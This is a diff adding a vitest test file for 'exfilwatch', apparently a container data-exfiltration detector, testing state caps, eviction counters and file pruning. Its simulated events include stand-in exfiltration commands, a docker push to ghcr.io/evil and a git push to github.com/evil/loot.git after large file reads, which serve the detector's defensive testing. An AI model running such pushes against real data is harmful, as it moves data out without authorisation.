@@ -1,0 +1,85 @@
+/** Bounded state: caps hold, evictions are counted, the biggest reads survive pruning. */
+import { describe, expect, it } from 'vitest';
+import { brief, counterValue, MiB, makeCorrelator, Scenario } from './builder.js';
+
+describe('state caps', () => {
+  it('containers beyond maxContainers are evicted and counted; the tracked count stays bounded', async () => {
+    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxContainers: 50 } } });
+    const s = new Scenario();
+    for (let i = 0; i < 500; i++) {
+      const c = s.container();
+      s.read(s.init(c), '/app/data.bin', 1000).wait(10);
+    }
+    correlator.ingest(s.events);
+    expect(correlator.trackedContainers()).toBe(50);
+    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'container' })).toBe(450);
+  });
+
+  it('a container with a pending push is judged before it is evicted, never lost', () => {
+    const { correlator } = makeCorrelator({ config: { caps: { maxContainers: 2 } } });
+    const s = new Scenario();
+    const c = s.container();
+    s.exec(c, '/usr/bin/docker', 'push ghcr.io/evil/x:1', { parent: s.init(c) });
+    for (let i = 0; i < 5; i++) s.read(s.init(s.container()), '/app/x', 10);
+    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
+    expect(brief(alerts)).toEqual([
+      { rule: 'push-without-reads', severity: 'low', tool: 'docker', destination: 'ghcr.io' },
+    ]);
+  });
+
+  it('processes beyond maxProcesses are evicted and counted', async () => {
+    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxProcesses: 100 } } });
+    const s = new Scenario();
+    const c = s.container();
+    const sh = s.init(c);
+    for (let i = 0; i < 1000; i++) s.exec(c, '/bin/true', '', { parent: sh });
+    correlator.ingest(s.events);
+    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'process' })).toBeGreaterThanOrEqual(
+      900,
+    );
+  });
+
+  it('files beyond maxFilesPerContainer are pruned (smallest first): counts stay right, the biggest reads stay listed', async () => {
+    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxFilesPerContainer: 32 } } });
+    const s = new Scenario();
+    const c = s.container();
+    const sh = s.init(c);
+    s.read(sh, '/data/huge.db', 40 * MiB);
+    s.readMany(sh, '/data/small', 1000, 1000, 1);
+    s.read(sh, '/data/big.tar', 30 * MiB);
+    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: sh });
+    s.connect(git, '140.82.112.3', 443);
+    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
+    expect(alerts).toHaveLength(1);
+    expect(alerts[0]!.reads.files).toBe(1002);
+    expect(alerts[0]!.reads.bytes).toBe(70 * MiB + 1_000_000);
+    expect(alerts[0]!.reads.top.slice(0, 2)).toEqual([
+      { path: '/data/huge.db', bytes: 40 * MiB },
+      { path: '/data/big.tar', bytes: 30 * MiB },
+    ]);
+    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'file' })).toBeGreaterThan(900);
+  });
+
+  it('sockets beyond maxSockets are evicted and counted', async () => {
+    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxSockets: 10 } } });
+    const s = new Scenario();
+    const c = s.container();
+    const p = s.exec(c, '/usr/bin/app', '', { parent: s.init(c) });
+    for (let i = 0; i < 50; i++) s.connect(p, `10.1.0.${i + 1}`, 5432, { cookie: String(1000 + i) });
+    correlator.ingest(s.events);
+    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'socket' })).toBe(40);
+  });
+
+  it('idle containers expire after the window (not counted as evictions)', async () => {
+    const { correlator, metrics } = makeCorrelator();
+    const s = new Scenario();
+    for (let i = 0; i < 20; i++) s.read(s.init(s.container()), '/app/x', 10);
+    correlator.ingest(s.events);
+    expect(correlator.trackedContainers()).toBe(20);
+    const later = new Scenario({ startMs: s.now + 2 * 3600_000 });
+    later.read(later.init(later.container()), '/app/y', 10);
+    correlator.ingest(later.events);
+    expect(correlator.trackedContainers()).toBe(1);
+    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'container' })).toBe(0);
+  });
+});
